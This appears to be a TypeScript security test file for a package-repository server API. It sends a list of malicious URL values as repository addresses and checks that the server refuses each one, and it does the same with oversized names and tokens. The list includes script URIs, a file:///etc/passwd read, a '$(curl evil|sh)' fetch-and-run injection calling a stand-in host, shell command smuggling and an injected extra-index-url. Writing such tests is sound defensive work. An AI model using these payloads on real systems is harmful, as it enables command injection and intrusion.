import { z } from "zod";
import { type Attack, mustBeRefused } from "./attack.ts";

const identified = z.object({ id: z.number() });
const dangerous = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  " javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "file:///etc/passwd",
  "http://x/$(curl evil|sh)",
  "http://x/`id`",
  "http://x/';id;'",
  'http://x/";id;"',
  "http://x/ --extra-index-url http://evil",
  "http://x/\nextra",
  "//x/y",
  "http://",
  `http://x/${"a".repeat(100_000)}`,
];

export const attacks: readonly Attack[] = [
  {
    kind: "addresses that do something",
    variant: "scripts, shell commands and line ends as address of a new repository",
    async run(scene) {
      for (const [at, publicationUri] of dangerous.entries())
        for (const field of ["publicationUri", "serverAddress"])
          mustBeRefused(
            await scene.send("POST", "/python/repositories", {
              token: scene.administrator,
              json: {
                name: `trap${at}`,
                publicationUri: `${scene.address}/repo/trap${at}`,
                serverAddress: `${scene.address}/repo/trap${at}`,
                [field]: publicationUri,
              },
            }),
          );
      return `${dangerous.length * 2} refused`;
    },
  },
  {
    kind: "addresses that do something",
    variant: "the same by a change of one that is there",
    async run(scene) {
      const { administrator: token, address } = scene;
      const json = {
        name: "changing",
        publicationUri: `${address}/repo/changing`,
        serverAddress: `${address}/repo/changing`,
      };
      const { id } = scene.data(await scene.send("POST", "/python/repositories", { token, json }), identified);
      for (const value of dangerous)
        mustBeRefused(
          await scene.send("PATCH", `/python/repositories/${id}`, {
            token,
            patch: [{ op: "replace", path: "/publicationUri", value }],
          }),
        );
      return `${dangerous.length} refused`;
    },
  },
  {
    kind: "texts too long for their place",
    variant: "names of repositories, tokens and searches of 500 kB",
    async run(scene) {
      const { administrator: token, address } = scene;
      const long = "n".repeat(500_000);
      const uri = `${address}/repo/long`;
      mustBeRefused(
        await scene.send("POST", "/r/repositories", {
          token,
          json: { name: long, publicationUri: uri, serverAddress: uri },
        }),
      );
      mustBeRefused(await scene.send("POST", "/access-tokens", { token, json: { name: long, lifetime: "30" } }));
      mustBeRefused(
        await scene.send("POST", "/check-server-address", { token, json: { serverAddress: `http://${long}` } }),
      );
      return "refused";
    },
  },
];
